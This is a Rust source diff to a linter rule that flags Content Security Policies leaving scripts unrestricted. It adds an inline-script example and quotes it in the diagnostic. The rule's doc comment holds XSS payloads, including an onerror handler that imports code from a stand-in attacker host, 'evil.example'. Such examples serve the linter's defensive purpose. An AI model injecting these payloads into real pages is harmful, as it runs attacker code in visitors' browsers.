@@ -1,3 +1,4 @@
+use crate::csp::attack::INLINE_SCRIPT;
 use crate::csp::{ALLOW_SCRIPTS, Csp, Directive};
 use crate::diagnostic::{Diagnostic, Level};
 use crate::lint::report::{Report, lint};
@@ -18,6 +19,7 @@ lint! {
     /// # Attack
     ///
     /// ```html
+    /// <script>alert(1)</script>
     /// <img src="x" onerror="import('https://evil.example/a.js')">
     /// ```
     ///
@@ -69,6 +71,6 @@ fn check(policy: &SecurityPolicy, report: &mut Report<'_>) {
         level,
         Diagnostic::finding(header.span, "this policy does not restrict scripts")
             .help("add `default_src: self`, and `script_src: nonce` where the pages have inline scripts")
-            .note("every script runs, including an injected one"),
+            .note(format!("every script runs, including an injected `{}`", INLINE_SCRIPT.text)),
     );
 }
